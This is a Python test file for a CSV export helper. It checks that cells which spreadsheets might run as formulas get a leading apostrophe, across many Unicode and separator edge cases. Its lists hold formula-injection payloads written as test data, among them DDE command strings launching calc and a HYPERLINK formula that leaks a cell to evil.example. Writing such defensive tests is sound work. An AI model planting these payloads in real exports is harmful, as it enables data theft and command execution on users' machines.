"""Tables survive spreadsheets: every cell comes back as it was, and none of them is a formula."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.domain import csv_cells

DANGEROUS = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(A1)",
    "=IMPORTXML(CONCAT(A1),\"//a\")",
    "=",
    "==1",
    "=\"\"",
    "+1",
    "+cmd|' /C calc'!A0",
    "+",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "--",
    "@SUM(1+1)",
    "@",
    "@ada",
    "|calc",
    "|",
    "\tplain",
    "\t",
    "\rplain",
    "\nplain",
    " =1+1",
    "   +1",
    " -1",
    " @SUM(1)",
    "  |calc",
    " \tplain",
    "\u00a0=1+1",
    "\u2003-1",
    "\u3000+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e=1+1",
    "\u2060@x",
    "\x00=1+1",
    "\x0b=1",
    "\x1f-1",
    "\x85=1",
    "\u2028=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\uff5ccalc",
    " \uff1d1",
    "\u22121",
    "\ufe66SUM",
    "=1,2",
    "=\"a\nb\"",
]  # fmt: skip

HARMLESS = [
    "",
    " ",
    "plain",
    "a=b",
    "1+1",
    "ada@example.com",
    "'=1",
    "2026-11-22",
    "gpt-4.1-mini",
    "a,b",
    "a\"b",
    "\"=1\"",
    "a\r\nb",
    "Jürgen Müßig",
    "東京",
    "🦊 fox",
    "(1)",
    "#REF!",
    "%00",
    "0012",
    "1e9",
]  # fmt: skip

# Where semicolons, tabs and line ends separate, as they are and as they must be.
BROKEN = {
    "a;=1": "a;'=1",
    "a;b": "a;b",
    "-1;=2": "'-1;'=2",
    "Eve;=cmd|' /C calc'!A0;x": "Eve;'=cmd|' /C calc'!A0;x",
    "Eve; \u200b+1": "Eve;' \u200b+1",
    "a;;@x": "a;;'@x",
    "a\t=1": "a\t'=1",
    "a\n=1": "a\n'=1",
    "a\r\n-1": "a\r\n'-1",
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    "\n=1+1": "'\n'=1+1",
    "\r\n=1+1": "'\r\n'=1+1",
    " \t=1": "' \t'=1",
    ";=1": ";'=1",
    '"a;=1"': '"a;\'=1"',
}

NUMBERS = [0, 1, -1, -4_000, 2**53, Decimal("0.003"), Decimal("-12.5"), Decimal("1E+3"), Decimal(7).scaleb(-6)]


def read_back(*cells: csv_cells.Cell) -> list[str]:
    text = b"".join(csv_cells.lines([cells])).decode()
    (row,) = csv.reader(io.StringIO(text, newline=""), strict=True)
    return row


def test_the_corpus_is_as_large_as_it_should_be():
    assert len({*DANGEROUS, *HARMLESS, *BROKEN}) + len(NUMBERS) >= 90


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_might_run_begins_with_an_apostrophe(text):
    assert read_back(text) == ["'" + text]


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_comes_back_as_it_was(text):
    assert read_back(text) == [text]


@pytest.mark.parametrize(("text", "written"), BROKEN.items())
def test_what_becomes_the_start_of_a_cell_where_other_signs_separate_gets_an_apostrophe(text, written):
    """Excel in most of Europe separates at semicolons, and then splits a quoted cell that is not its row's first."""
    line = f'"first",{csv_cells.cell(text)}'.replace("\t", ";")
    other = [cell for row in csv.reader(io.StringIO(line, newline=""), delimiter=";") for cell in row]

    assert read_back(text) == [written]
    assert not any(cell.strip("\u200b ")[:1] in {"=", "+", "-", "@", "|"} for cell in other)


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers_also_below_zero(number):
    (cell,) = read_back(number)
    assert Decimal(cell) == number
    assert "e" not in cell.lower()


@pytest.mark.parametrize("value", [True, 1.5, float("nan"), Decimal("NaN"), Decimal("Infinity"), b"=1", ["=1"]])
def test_what_has_no_exact_form_is_an_error(value):
    with pytest.raises(TypeError):
        csv_cells.cell(value)


@pytest.mark.slow
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
def test_every_cell_is_quoted_and_no_text_breaks_out_of_its_cell(texts):
    row = read_back(*texts)

    assert [cell.replace("'", "") for cell in row] == [text.replace("'", "") for text in texts]
    assert all(csv_cells.cell(text)[0] == csv_cells.cell(text)[-1] == '"' for text in texts)
    assert not any(cell.strip()[:1] in {"=", "+", "-", "@", "|"} for cell in row if cell.strip())


def test_a_table_is_utf_8_with_the_line_ends_of_the_standard():
    assert b"".join(csv_cells.lines([["model", "credits"], ["Fähre", 3], [None, -1]])) == (
        '"model","credits"\r\n"Fähre","3"\r\n"","-1"\r\n'.encode()
    )


def test_half_a_character_does_not_keep_a_table_from_being_written():
    assert b"".join(csv_cells.lines([["a\ud800b"]])) == b'"a?b"\r\n'
